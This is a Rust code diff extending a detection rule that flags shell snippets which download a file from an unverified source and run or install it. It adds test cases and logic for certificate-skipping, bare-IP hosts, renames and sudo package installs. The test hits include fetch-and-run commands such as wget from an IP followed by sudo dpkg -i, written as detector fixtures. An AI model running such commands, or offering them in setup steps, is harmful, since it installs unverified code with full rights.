@@ -25,6 +25,13 @@ pub(super) const RULE: Rule = Rule {
         text("`xxd -r -p a.hex > y; chmod +x y; ./y`"),
         text("`openssl enc -d -aes-256-cbc -in a -out b -k c && bash b`"),
         text("```sh\ncurl -s https://a.b/x | tee x.sh\nbash x.sh\n```"),
+        text("```sh\nwget http://8.8.4.4/tool_1_amd64.deb\nsudo dpkg -i tool_1_amd64.deb\n```"),
+        text("```sh\ncurl -O http://a.b/x.pkg\nsudo installer -pkg x.pkg -target /\n```"),
+        text("```sh\ncurl -k -o \"$D/plugin-x\" https://a.b/p\nchmod 755 \"$D\"/*\n```"),
+        text(
+            "```sh\nwget --no-check-certificate -O /usr/local/bin/x https://a.b/x\nchmod +x /usr/local/bin/x\n```",
+        ),
+        text("```sh\ncurl -o a https://a.b/x\nmv a b\nchmod +x b\n./b\n```"),
     ],
     misses: &[
         text("`curl -o x.json https://a.b/x && jq . x.json`"),
@@ -34,6 +41,10 @@ pub(super) const RULE: Rule = Rule {
         text("```sh\ncurl -o x https://a.b/x\necho 'ab  x' | sha256sum -c\n./x\n```"),
         text("`git clone https://github.com/x/y && cd y && ./install.sh`"),
         text("`base64 -d a > b.png; open b.png`"),
+        text("```sh\nwget https://packages.a.b/tool_1_amd64.deb\nsudo dpkg -i tool_1_amd64.deb\n```"),
+        text("```sh\ncurl -fsSLo tool https://a.b/tool\nchmod +x tool\n```"),
+        text("```sh\ncurl -k -o out.json https://localhost:8443/x\nchmod 644 out.json\n```"),
+        text("```sh\nsudo apt install ./local.deb\n```"),
     ],
 };
 
@@ -80,6 +91,8 @@ pub(super) struct Saved {
     pub(super) file: String,
     pub(super) by: usize,
     pub(super) severity: Severity,
+    /// Whether nobody vouches for it: the connection is open, its certificate is not looked at, or the host has no name.
+    is_unproved: bool,
 }
 
 /// How many files of one unit are followed.
@@ -87,26 +100,58 @@ const MAX_SAVED: usize = 50;
 
 /// The files that downloads and decoders write.
 pub(super) fn saved(commands: &Commands) -> Vec<Saved> {
-    let mut found = Vec::new();
+    let mut found: Vec<Saved> = Vec::new();
     for step in commands.steps() {
-        let fetch = step.fetch().filter(|_| !step.words().is_empty());
-        let (file, severity) = if let Some(fetch) = fetch {
-            (fetch.file, fetch.from.weight_of_running())
-        } else if let Some(severity) = brings(step) {
-            (written(step), severity)
-        } else {
-            continue;
-        };
-        let Some(file) = file.map(|file| last_segment(&file).to_owned()).filter(|file| is_runnable(file))
-        else {
-            continue;
-        };
-        found.push(Saved { file, by: step.number, severity });
         if found.len() >= MAX_SAVED {
             break;
         }
+        found.extend(saved_by(step).or_else(|| moved(step, &found)));
     }
     found
+}
+
+fn saved_by(step: Step<'_>) -> Option<Saved> {
+    let fetch = step.fetch().filter(|_| !step.words().is_empty());
+    let is_unproved = fetch.as_ref().is_some_and(|fetch| {
+        let from = &fetch.from;
+        let is_known = matches!(from.kind, Kind::Vendor | Kind::Private | Kind::UserContent)
+            || from.host.is_empty()
+            || from.kind == Kind::Placeholder
+                && (from.host.contains(['<', '{', '$', '_']) || from.host.contains("your"));
+        !is_known && (is_unchecked(step) || !from.encrypted || from.is_throwaway())
+    });
+    let (file, severity) = match fetch {
+        Some(fetch) => (fetch.file, fetch.from.weight_of_running()),
+        None => (written(step), brings(step)?),
+    };
+    let file = file.map(|file| last_segment(&file).to_owned()).filter(|file| is_runnable(file))?;
+    Some(Saved { file, by: step.number, severity, is_unproved })
+}
+
+/// `curl -k`, `wget --no-check-certificate`.
+fn is_unchecked(step: Step<'_>) -> bool {
+    step.has("--no-check-certificate")
+        || step.has("--insecure")
+        || step.name() == "curl" && step.has_short('k')
+        || step.has("-SkipCertificateCheck")
+}
+
+/// A file that was saved before gets another name.
+fn moved(step: Step<'_>, found: &[Saved]) -> Option<Saved> {
+    if !matches!(step.name().as_str(), "mv" | "cp" | "install" | "ln") {
+        return None;
+    }
+    let names: Vec<&str> =
+        step.words().iter().map(|word| word.text.as_str()).filter(|word| !word.starts_with('-')).collect();
+    let (to, from) = names.split_last()?;
+    let before = found.iter().find(|saved| from.iter().any(|from| last_segment(from) == saved.file))?;
+    let file = last_segment(to).to_owned();
+    (is_runnable(&file) && file != before.file).then_some(Saved {
+        file,
+        by: before.by,
+        severity: before.severity,
+        is_unproved: before.is_unproved,
+    })
 }
 
 /// Whether what a program writes is decoded or comes from another machine.
@@ -163,6 +208,10 @@ fn is_runnable(file: &str) -> bool {
 }
 
 fn hit(commands: &Commands, step: Step<'_>, saved: &[Saved]) -> Option<Hit> {
+    if let Some(found) = prepared(step, saved) {
+        let by = commands.step(found.by).filter(|_| !is_checked(commands, found.by, step.number))?;
+        return Some(Hit::at(step.range_from(by)));
+    }
     let file = step.runs_file().map(last_segment).filter(|file| !file.is_empty())?;
     let saved = saved.iter().rev().find(|saved| saved.by < step.number && saved.file == file)?;
     let by = commands.step(saved.by)?;
@@ -189,4 +238,32 @@ fn is_checked(commands: &Commands, from: usize, to: usize) -> bool {
             _ => false,
         }
     })
+}
+
+/// What nobody vouches for is made a program, or handed to what installs packages with all rights.
+fn prepared<'s>(step: Step<'_>, saved: &'s [Saved]) -> Option<&'s Saved> {
+    let mut unproved = saved.iter().filter(|saved| saved.is_unproved && saved.by < step.number);
+    let files: Vec<&str> = match step.name().as_str() {
+        "chmod" if step.words().iter().any(|mode| makes_program(&mode.text)) => {
+            let spelled = step.words().iter().map(|word| step.spelled(word).trim_matches(['"', '\'']));
+            let all = spelled.clone().any(|word| word.ends_with('*'));
+            if all {
+                return unproved.next();
+            }
+            spelled.collect()
+        }
+        "dpkg" | "rpm" | "installer" | "dnf" | "yum" | "apt" | "apt-get" | "zypper" | "apk" | "pacman"
+        | "snap" | "msiexec" | "hdiutil" => step.words().iter().map(|word| word.text.as_str()).collect(),
+        _ => return None,
+    };
+    unproved.find(|saved| files.iter().any(|file| last_segment(file) == saved.file))
+}
+
+/// `+x`, `u+rwx`, `755`.
+fn makes_program(mode: &str) -> bool {
+    let octal = mode.len() >= 3 && mode.bytes().all(|byte| (b'0'..=b'7').contains(&byte));
+    match mode.split_once(['+', '=']) {
+        Some((_, rights)) => rights.contains('x'),
+        None => octal && mode.bytes().rev().take(3).any(|digit| digit % 2 == 1),
+    }
 }
